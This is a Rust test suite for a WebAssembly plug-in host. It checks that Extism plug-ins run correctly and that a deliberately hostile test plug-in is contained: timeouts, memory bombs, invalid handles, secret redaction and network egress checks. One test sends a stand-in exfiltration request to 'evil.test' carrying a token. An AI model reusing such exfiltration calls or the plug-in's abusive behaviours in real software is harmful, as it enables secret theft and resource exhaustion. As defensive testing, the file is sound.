//! Extism plug-ins (`kind = "extism"`) through the embedding API: the example built with the
//! Extism Rust PDK (`examples/extism/count-vowels`) answers as Extism's own host does, and the
//! hostile plug-in (`tests/guests/extism-hostile`) is stopped with a clear error and an audit
//! record each time, the host serving the next call.

use std::fs;

use warden_audit::{Event, Outcome, Record};
use warden_host::{CallError, ExtensionId, Grant, Policy, SecretName, SecretValue, TenantName};

use crate::egress::{FakeResolver, Server, allow_loopback, network, reply};
use crate::support::{Lab, text};

const EXAMPLE: &str = "extism/count-vowels";
const HOSTILE: &str = "extism-hostile";

fn grant(s: &str) -> Grant {
    s.parse().unwrap()
}

fn records(lab: &Lab, event: Event) -> Vec<Record> {
    lab.audit
        .records()
        .into_iter()
        .filter(|r| r.event() == event)
        .collect()
}

fn last_of(lab: &Lab, event: Event) -> Record {
    records(lab, event).pop().unwrap()
}

async fn fails(lab: &Lab, id: &ExtensionId, method: &str, input: &str) -> CallError {
    lab.call(id, method, input.as_bytes())
        .await
        .expect_err("the call must fail")
        .error
}

/// The host still serves the plug-in: a harmless call answers.
async fn still_serves(lab: &Lab, id: &ExtensionId) {
    let out = lab.call(id, "config", b"nothing").await.unwrap();
    assert_eq!(text(&out), "none");
}

#[tokio::test(flavor = "multi_thread")]
async fn count_vowels_answers_as_extisms_own_host_does() {
    let lab = Lab::new();
    let id = lab.load_granted(EXAMPLE, |m| m, &grant("secret:vowels"));
    lab.host
        .tenant(&TenantName::default_tenant())
        .put_secret(
            &id,
            &"vowels".parse::<SecretName>().unwrap(),
            SecretValue::new("aeiouyAEIOUY".into()).unwrap(),
        )
        .unwrap();
    // docs/design/extism/run-extism-ref.stdout, call#0 (Extism 1.30.0, the same config).
    let expected = r#"{"count":5,"total":5,"vowels":"aeiouyAEIOUY","input_len":17}"#;
    for _ in 0..2 {
        let called = lab
            .host
            .default_tenant()
            .call(&id, "count_vowels", b"Hello, World! yes")
            .await
            .unwrap();
        // Vars live for one call: the running total starts again every call.
        assert_eq!(text(&called.value), expected);
        let logs: Vec<&str> = called.logs.iter().map(|l| l.text.as_str()).collect();
        // The info line is kept; the debug line is below the capture level.
        assert_eq!(logs, ["counted 5 vowels (total 5)"], "{:?}", called.logs);
    }
    let call = last_of(&lab, Event::Call);
    assert_eq!(call.outcome(), Outcome::Ok);
    let grants = records(&lab, Event::Grant);
    assert!(
        grants
            .iter()
            .any(|r| r.capability() == Some("secrets") && r.target() == Some("vowels")),
        "{grants:#?}"
    );
    // An error set with error_set fails the call with the plug-in's message and code.
    match fails(&lab, &id, "fail", "boom").await {
        CallError::Extension { code, message } => {
            assert_eq!(code, "7");
            assert!(message.contains("failing on purpose: boom"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(last_of(&lab, Event::Call).outcome(), Outcome::Error);
}

/// The raw ABI at its edges, as Extism's kernel answers (research run on Extism 1.30.0:
/// `docs/design/extism/run-extism-ref.stdout`, `probe`), handles aside (any non-zero
/// handle is valid; these are warden's offsets).
#[tokio::test(flavor = "multi_thread")]
async fn the_host_abi_answers_at_its_edges_as_extisms_kernel_does() {
    let lab = Lab::new();
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    let out = text(
        &lab.call(&id, "probe", b"0123456789abcdefXYZ")
            .await
            .unwrap(),
    );
    assert_eq!(
        out,
        "alloc0=0 length(a)=10 length_unsafe(a)=10 length(a+1)=0 length(0)=0 \
         word=0x102030405060708 load_u8(2^40)=0 load_u64(2^40)=0 input_length=19 \
         input_load_u8(len+5)=0 input_load_u64(len-4)=0 length(freed)=0 config_get(missing)=0 \
         var_before=Some(\"x\") var_after=None input_head=0123456789abcdef"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn config_not_granted_reads_as_absent_and_is_audited_as_a_denial() {
    let lab = Lab::new();
    // The example without its grant: the default vowels, and a denial for `vowels`.
    let example = lab.load_granted(EXAMPLE, |m| m, &Grant::None);
    let out = text(
        &lab.call(&example, "count_vowels", b"Hello, World! yes")
            .await
            .unwrap(),
    );
    assert_eq!(
        out,
        r#"{"count":4,"total":4,"vowels":"aeiouAEIOU","input_len":17}"#
    );
    let hostile = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    assert_eq!(
        text(&lab.call(&hostile, "config", b"API_TOKEN").await.unwrap()),
        "none"
    );
    let d = records(&lab, Event::Denial);
    let targets: Vec<(Option<&str>, Option<&str>)> =
        d.iter().map(|r| (r.capability(), r.target())).collect();
    assert!(
        targets.contains(&(Some("secrets"), Some("vowels"))),
        "{d:#?}"
    );
    assert!(
        targets.contains(&(Some("secrets"), Some("API_TOKEN"))),
        "{d:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn limits_stop_the_plug_in_and_the_host_serves_the_next_call() {
    let lab = Lab::new();
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);

    let e = fails(&lab, &id, "spin", "").await;
    assert!(matches!(e, CallError::Timeout(_)), "{e:?}");
    assert_eq!(last_of(&lab, Event::Limit).outcome(), Outcome::Timeout);
    still_serves(&lab, &id).await;

    // Its own linear memory, then Extism memory (the host's arena) through `alloc`: both
    // count against max_memory (strict: 16 MiB).
    for method in ["grow", "alloc_bomb"] {
        let e = fails(&lab, &id, method, "").await;
        assert!(matches!(e, CallError::MemoryLimit(_)), "{method}: {e:?}");
        let limit = last_of(&lab, Event::Limit);
        assert_eq!(limit.outcome(), Outcome::MemoryLimit, "{method}");
        still_serves(&lab, &id).await;
    }

    // An output over max_response_bytes (5 MiB), with memory enough to make it.
    let roomy = lab.load_granted(
        HOSTILE,
        |m| {
            m.replace(
                "profile = \"strict\"",
                "profile = \"strict\"\nmax_memory = \"64MiB\"",
            )
        },
        &Grant::All,
    );
    let e = fails(&lab, &roomy, "huge", "6").await;
    assert!(
        matches!(e, CallError::TooLarge { what: "result", .. }),
        "{e:?}"
    );
    still_serves(&lab, &id).await;

    // Vars are bounded per call.
    let e = fails(&lab, &id, "vars", "").await;
    match e {
        CallError::Trap(m) => assert!(m.contains("var_set"), "{m}"),
        other => panic!("{other:?}"),
    }
    still_serves(&lab, &id).await;

    // Handles the host never gave out: loads and stores do nothing, a host function refuses.
    match fails(&lab, &id, "bad_handle", "").await {
        CallError::Trap(m) => assert!(
            m.contains("log_info: the message handle") && m.contains("not a block"),
            "{m}"
        ),
        other => panic!("{other:?}"),
    }
    still_serves(&lab, &id).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fuel_stops_a_busy_plug_in_when_configured() {
    let lab = Lab::new();
    let id = lab.load_granted(
        HOSTILE,
        |m| {
            m.replace(
                "max_execution_time = \"1s\"",
                "max_execution_time = \"1s\"\nmax_fuel = 1000000",
            )
        },
        &Grant::All,
    );
    let e = fails(&lab, &id, "spin", "").await;
    assert!(matches!(e, CallError::FuelExhausted(1_000_000)), "{e:?}");
    still_serves(&lab, &id).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn http_request_goes_through_the_egress_checks() {
    let server = Server::ok("hello from the allowed host");
    let port = server.port();
    // The redirect's target: never reached.
    let inner = Server::ok("internal");
    let redirect = Server::start(
        "127.0.0.1",
        0,
        reply(
            "302 Found",
            &[&format!("location: http://internal.test:{}/", inner.port())],
            b"moved",
        ),
    );
    let resolver = FakeResolver::new(&[
        ("api.acme.test", &[&["127.0.0.1"]]),
        ("moved.acme.test", &[&["127.0.0.1"]]),
        ("private.acme.test", &[&["10.0.0.7"]]),
        ("internal.test", &[&["127.0.0.1"]]),
    ]);
    let lab = Lab::with_resolver(allow_loopback(), Some(resolver.clone()));
    let id = lab.load_granted(
        HOSTILE,
        network(
            &["api.acme.test", "moved.acme.test", "private.acme.test"],
            &[port, redirect.port(), 80],
        ),
        &Grant::All,
    );

    // Allowed: the answer, a grant record, egress bytes counted.
    let url = format!("http://api.acme.test:{port}/hello");
    let out = text(&lab.call(&id, "fetch", url.as_bytes()).await.unwrap());
    assert_eq!(out, "200 hello from the allowed host");
    assert_eq!(server.connections(), 1);
    let call = last_of(&lab, Event::Call);
    assert_eq!(call.outcome(), Outcome::Ok);
    assert!(call.egress_bytes().unwrap_or(0) > 0);

    // A host not in the list: refused before any lookup, the call ends with an error naming
    // it, a denial record; nothing sent.
    let lookups = resolver.calls();
    match fails(&lab, &id, "fetch", "http://evil.test/steal?token=hunter2").await {
        CallError::Trap(m) => assert!(
            m.contains("http_request to http://evil.test:80 was refused"),
            "{m}"
        ),
        other => panic!("{other:?}"),
    }
    assert_eq!(resolver.calls(), lookups);
    let denial = last_of(&lab, Event::Denial);
    assert_eq!(denial.capability(), Some("network"));
    assert_eq!(denial.target(), Some("http://evil.test:80"));
    assert_eq!(last_of(&lab, Event::Call).outcome(), Outcome::Trap);
    let all = format!("{:?}", lab.audit.records());
    assert!(!all.contains("hunter2"), "the query is in no record");

    // An allowed name resolving to a private address: refused after the lookup.
    match fails(&lab, &id, "fetch", "http://private.acme.test/").await {
        CallError::Trap(m) => {
            assert!(
                m.contains("http_request to http://private.acme.test:80 was refused")
                    && m.contains("non-public address"),
                "{m}"
            )
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(
        last_of(&lab, Event::Denial).target(),
        Some("http://private.acme.test:80")
    );

    // A redirect to a host outside the list is not followed: the plug-in sees the 302.
    let url = format!("http://moved.acme.test:{}/", redirect.port());
    let out = text(&lab.call(&id, "fetch", url.as_bytes()).await.unwrap());
    assert_eq!(out, "302 moved");
    assert_eq!(redirect.connections(), 1);
    assert_eq!(inner.connections(), 0, "the redirect was not followed");

    // The host serves the next call.
    let url = format!("http://api.acme.test:{port}/again");
    let out = text(&lab.call(&id, "fetch", url.as_bytes()).await.unwrap());
    assert_eq!(out, "200 hello from the allowed host");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_network_permission_http_request_is_refused() {
    let lab = Lab::with_policy(Policy::default());
    let id = lab.load_granted(HOSTILE, |m| m, &Grant::All);
    match fails(&lab, &id, "fetch", "https://example.com/").await {
        CallError::Trap(m) => assert!(
            m.contains("http_request to https://example.com:443 was refused"),
            "{m}"
        ),
        other => panic!("{other:?}"),
    }
    let denial = last_of(&lab, Event::Denial);
    assert_eq!(denial.capability(), Some("network"));
    still_serves(&lab, &id).await;
}

/// A plug-in staged from `wat` with `methods` in its manifest; its load's error, if any.
fn load_wat(lab: &Lab, wat: &str, methods: &[&str]) -> Result<(), String> {
    let stage = lab.dir.path().join(format!("wat-{}", rand_name()));
    fs::create_dir_all(&stage).unwrap();
    let mut manifest = "schema = 1\n\n[extension]\nid = \"test.plugin\"\nversion = \"0.1.0\"\n\
        publisher = \"warden-examples\"\nkind = \"extism\"\nentry = \"plugin.wasm\"\n"
        .to_string();
    for m in methods {
        manifest.push_str(&format!("\n[[methods]]\nname = \"{m}\"\n"));
    }
    fs::write(stage.join("extension.toml"), manifest).unwrap();
    fs::write(stage.join("plugin.wasm"), wat::parse_str(wat).unwrap()).unwrap();
    let path = lab.sign_dir(&stage);
    lab.host
        .default_tenant()
        .load_file(&path, None, &Grant::All)
        .map(drop)
        .map_err(|e| warden_call_chain(&e))
}

fn warden_call_chain(e: &(dyn std::error::Error + 'static)) -> String {
    let mut out = e.to_string();
    let mut next = e.source();
    while let Some(s) = next {
        out.push_str(": ");
        out.push_str(&s.to_string());
        next = s.source();
    }
    out
}

fn rand_name() -> u64 {
    use std::sync::atomic::{AtomicU64, Ordering};
    static N: AtomicU64 = AtomicU64::new(0);
    N.fetch_add(1, Ordering::SeqCst)
}

#[test]
fn a_plug_in_that_cannot_run_here_is_refused_at_load_with_the_reason() {
    let lab = Lab::new();
    let run = r#"(func (export "run") (result i32) i32.const 0)"#;
    load_wat(&lab, &format!("(module {run})"), &["run"]).unwrap();
    for (wat, methods, says) in [
        (
            format!(
                r#"(module (import "extism:host/user" "mine" (func (param i64) (result i64))) {run})"#
            ),
            &["run"][..],
            "extism:host/user::mine: a user-defined host function",
        ),
        (
            format!(
                r#"(module (import "wasi_snapshot_preview1" "fd_write" (func (param i32 i32 i32 i32) (result i32))) {run})"#
            ),
            &["run"][..],
            "WASI preview 1 is not offered",
        ),
        (
            format!(r#"(module (import "extism:host/env" "nope" (func)) {run})"#),
            &["run"][..],
            "extism:host/env::nope: not an Extism host function",
        ),
        (
            format!(r#"(module (import "extism:host/env" "alloc" (func (param i32))) {run})"#),
            &["run"][..],
            "alloc",
        ),
        (
            format!("(module {run})"),
            &["missing"][..],
            "lists method \"missing\", but the plug-in exports no such function",
        ),
        (
            r#"(module (func (export "run") (param i32) (result i32) i32.const 0))"#.to_string(),
            &["run"][..],
            "not as an Extism function `() -> i32`",
        ),
    ] {
        let e = load_wat(&lab, &wat, methods).unwrap_err();
        assert!(e.contains(says), "{says}: {e}");
    }
    // A component where a core module belongs: refused when the bundle is packed (and read).
    let stage = lab.dir.path().join("component");
    fs::create_dir_all(&stage).unwrap();
    fs::write(
        stage.join("extension.toml"),
        "schema = 1\n\n[extension]\nid = \"test.plugin\"\nversion = \"0.1.0\"\n\
         publisher = \"warden-examples\"\nkind = \"extism\"\nentry = \"plugin.wasm\"\n\n\
         [[methods]]\nname = \"run\"\n",
    )
    .unwrap();
    fs::write(
        stage.join("plugin.wasm"),
        wat::parse_str("(component)").unwrap(),
    )
    .unwrap();
    let e = warden_bundle::pack_dir(&stage, &warden_bundle::BundleLimits::default())
        .err()
        .unwrap()
        .to_string();
    assert!(e.contains("not a core WebAssembly module"), "{e}");
    // Each refusal left a load record.
    let loads = records(&lab, Event::Load);
    assert!(loads.iter().any(|r| r.outcome() == Outcome::Invalid));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_deadline_stops_a_plug_in_blocked_in_http_request() {
    // Accepted by the kernel, never answered.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = silent.local_addr().unwrap().port();
    let resolver = FakeResolver::new(&[("slow.acme.test", &[&["127.0.0.1"]])]);
    let lab = Lab::with_resolver(allow_loopback(), Some(resolver));
    let id = lab.load_granted(HOSTILE, network(&["slow.acme.test"], &[port]), &Grant::All);
    let started = std::time::Instant::now();
    let url = format!("http://slow.acme.test:{port}/");
    let e = fails(&lab, &id, "fetch", &url).await;
    assert!(matches!(e, CallError::Timeout(_)), "{e:?}");
    // max_execution_time is 1 s; the request's own first-byte timeout would be 10 s.
    assert!(started.elapsed() < std::time::Duration::from_secs(3));
    assert_eq!(last_of(&lab, Event::Limit).outcome(), Outcome::Timeout);
    still_serves(&lab, &id).await;
    drop(silent);
}

#[tokio::test(flavor = "multi_thread")]
async fn config_values_are_redacted_from_the_plug_ins_logs_and_errors() {
    const TOKEN: &str = "Sup3r-S3cret-Tok3n-extism";
    let lab = Lab::new();
    let id = lab.load_granted(
        HOSTILE,
        |m| m + "\n[permissions]\nsecrets = [\"API_TOKEN\"]\n",
        &grant("secret:API_TOKEN"),
    );
    lab.host
        .tenant(&TenantName::default_tenant())
        .put_secret(
            &id,
            &"API_TOKEN".parse::<SecretName>().unwrap(),
            SecretValue::new(TOKEN.into()).unwrap(),
        )
        .unwrap();
    let failure = lab
        .host
        .default_tenant()
        .call(&id, "leak", b"API_TOKEN")
        .await
        .expect_err("the plug-in fails on purpose");
    let shown = format!("{:?} {:?}", failure.error, failure.logs);
    assert!(!shown.contains(TOKEN), "{shown}");
    assert!(shown.contains("leaking"), "{shown}");
    assert!(
        failure
            .logs
            .iter()
            .any(|l| l.text.starts_with("the value is ")),
        "{:?}",
        failure.logs
    );
    let all = format!("{:?}", lab.audit.records());
    assert!(!all.contains(TOKEN), "{all}");
}
